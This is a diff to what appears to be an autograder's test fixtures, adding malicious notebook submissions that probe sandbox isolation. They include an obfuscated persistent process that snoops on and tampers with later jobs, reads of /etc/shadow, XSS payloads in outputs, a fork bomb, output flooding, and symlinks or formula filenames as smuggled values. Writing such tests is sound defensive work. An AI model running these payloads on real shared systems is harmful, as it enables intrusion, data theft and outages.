@@ -431,7 +431,8 @@ CHEATS: dict[str, Cheat] = {
         "    fake = {'nonce': '0' * 16, 'grade_id': 'test_my_optimizer_' + test, "
         "'values': {}, 'checks': []}\n"
         "    display({'application/vnd.optim-labs.results+json': fake}, raw=True)\n",
-        "graded",
+        "flagged",
+        ("results messages the grader did not ask for were dropped",),
     ),
 }
 
@@ -447,3 +448,152 @@ def cheats(course, lab: str = "lab2_optimizers", names=None) -> dict[str, bytes]
         for sid, cheat in CHEATS.items()
         if names is None or sid in names
     }
+
+
+# -- attacks on isolation: what one submission may try against the next, the host and the
+# people who open its pages. Each is added to the correct solution, so it earns its points;
+# what it must not do is reach anything outside its own job. -----------------------------
+
+#: Started by ``LURKER``'s cell: outlive the job (re-forking every round, deaf to signals),
+#: patch the next jobs' helpers, listen to their kernels, and leave what it finds in /dev.
+_LURKER_CODE = r"""
+import glob, os, signal, time
+for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
+    signal.signal(s, signal.SIG_IGN)
+try:
+    import zmq
+except Exception:
+    zmq = None
+end, rounds = time.time() + 90, 0
+while time.time() < end:
+    if rounds % 10 == 0:
+        if os.fork():
+            os._exit(0)  # a new pid every half second
+        ctx = zmq.Context() if zmq else None  # a context does not survive a fork
+        heard, subs = set(), []
+    rounds += 1
+    jobs = glob.glob('/tmp/autograde-zygote-*/slot/job-*') + glob.glob('../job-*')
+    for job in jobs:
+        for helper in glob.glob(job + '/labs/cases.py'):
+            try:
+                os.rename(helper, helper + '.old')
+                open(helper, 'w').write(open(helper + '.old').read() + '\nraise SystemExit(1)\n')
+            except OSError:
+                pass
+        for sock in glob.glob(job + '/kernel-ipc-*'):
+            if ctx is not None and sock not in heard:
+                heard.add(sock)
+                sub = ctx.socket(zmq.SUB)
+                sub.setsockopt(zmq.SUBSCRIBE, b'')
+                sub.connect('ipc://' + sock)
+                subs.append(sub)
+    for sub in subs:
+        while sub.poll(0):
+            frames = sub.recv_multipart()
+            if any(b'VICTIM' in f for f in frames):
+                open('/dev/loot', 'ab').write(b' '.join(frames)[:4000])
+    for place in ('/dev', '/dev/shm', '/tmp'):
+        try:
+            open(place + '/lurker-was-here', 'w').write(str(jobs))
+        except OSError:
+            pass
+    time.sleep(0.05)
+"""
+
+LURKER = (
+    "import base64, glob, os, subprocess, sys\n\n"
+    "print('LEFT BEFORE ME:', sorted(glob.glob('/dev/*lurker*') + glob.glob('/dev/shm/*') + "
+    "glob.glob('/tmp/*lurker*') + glob.glob('/dev/*loot*')))\n"
+    "for name in glob.glob('/dev/shm/*') + glob.glob('/dev/*loot*'):\n"
+    "    print(open(name, errors='replace').read()[:2000])\n"
+    f"_code = base64.b64decode({__import__('base64').b64encode(_LURKER_CODE.encode())!r})\n"
+    "subprocess.Popen([sys.executable, '-c', _code], start_new_session=True,\n"
+    "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
+    "for place in ('/dev', '/dev/shm', '/tmp'):\n"
+    "    try:\n"
+    "        open(place + '/lurker-loot', 'w').write('from an earlier job')\n"
+    "    except OSError:\n"
+    "        pass\n"
+)
+
+READS_SHADOW = (
+    "try:\n"
+    "    print('SHADOW:', open('/etc/shadow').read()[:200])\n"
+    "except OSError as exc:\n"
+    "    print('SHADOW refused:', type(exc).__name__)\n"
+)
+
+#: Sets ``window.__pwned`` (and the page title) wherever a person's browser would run it.
+SCRIPT_OUTPUT = (
+    "from IPython.display import HTML, Javascript, Markdown, SVG, display\n\n"
+    "display(HTML('<img src=x onerror=\"window.__pwned=1;document.title=\\'PWNED\\'\">'))\n"
+    "display(Javascript('window.__pwned = 1; document.title = \"PWNED\";'))\n"
+    "display(Markdown('<img src=x onerror=\"window.__pwned=1\">'))\n"
+    'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"/>\'))\n'
+)
+SCRIPT_MARKDOWN = "Look: <img src=x onerror=\"window.__pwned=1;document.title='PWNED'\">"
+
+RESULTS_FLOOD = (
+    "from IPython.display import display\n\n"
+    "for _ in range(12):\n"
+    "    display({'application/vnd.optim-labs.results+json': {'pad': 'x' * (3 << 20)}}, "
+    "raw=True)\n"
+)
+
+FORK_BOMB = (
+    "import os, time\n\n"
+    "born = 0\n"
+    "for _ in range(100_000):\n"
+    "    try:\n"
+    "        if os.fork() == 0:\n"
+    "            time.sleep(600)\n"
+    "            os._exit(0)\n"
+    "        born += 1\n"
+    "    except OSError:\n"
+    "        break\n"
+    "print('FORKED', born)\n"
+)
+
+
+def isolation_class(lab: str, course, folder, rounds: int = 10) -> dict[str, str]:
+    """A class folder of attacks on isolation next to honest work, by relative path ->
+    what it is. The lurker and its victim alternate ``rounds`` times (graded in path order
+    by one worker, each victim runs right after a lurker on the same zygote); each victim's
+    code carries a marker, ``VICTIM-CODE-<k>``, that must reach no other row or file."""
+    from pathlib import Path
+
+    refs = mistakes.reference_submissions(lab, course)
+    solution = refs["solution"]
+    answer = next(iter(mistakes.solution_code(lab, course.root)))
+    folder = Path(folder)
+    folder.mkdir(parents=True, exist_ok=True)
+    out: dict[str, str] = {}
+
+    def put(name: str, nb, what: str) -> None:
+        (folder / name).write_text(nbformat.writes(nb))
+        out[name] = what
+
+    for k in range(rounds):
+        put(f"r{k:02d}-a-lurker.ipynb", _with_cell(solution, LURKER, answer), "the lurker")
+        victim = copy.deepcopy(solution)
+        cell = victim.cells[_cell_index(victim, answer)]
+        cell.source = f"# VICTIM-CODE-{k}\n" + cell.source
+        put(f"r{k:02d}-b-victim.ipynb", victim, "an honest victim, graded right after")
+    put("shadow.ipynb", _with_cell(solution, READS_SHADOW, answer), "reads root-only files")
+    scripted = _with_cell(solution, SCRIPT_OUTPUT, answer)
+    scripted.cells.insert(1, nbformat.v4.new_markdown_cell(SCRIPT_MARKDOWN))
+    put("scripts.ipynb", scripted, "HTML and script outputs, and a script in Markdown")
+    put("flood.ipynb", _with_cell(solution, RESULTS_FLOOD, answer), "a flood of fake results")
+    put("bomb.ipynb", _with_cell(solution, FORK_BOMB, answer), "a fork bomb")
+    formula = '=HYPERLINK("example.invalid","x").ipynb'
+    (folder / formula).write_text(nbformat.writes(solution))
+    out[formula] = "a spreadsheet formula for a name"
+    source = course.source_path(lab)
+    (folder / "eve.ipynb").symlink_to(source)
+    out["eve.ipynb"] = "a link to the course's source notebook"
+    (folder / "fay").mkdir()
+    (folder / "fay" / f"{lab}.ipynb").write_text(nbformat.writes(solution))
+    (folder / "fay" / "submission_secret.txt").symlink_to("/etc/passwd")
+    out[f"fay/{lab}.ipynb"] = "honest"
+    out["fay/submission_secret.txt"] = "a link to a host file, where nbgrader's secret goes"
+    return out
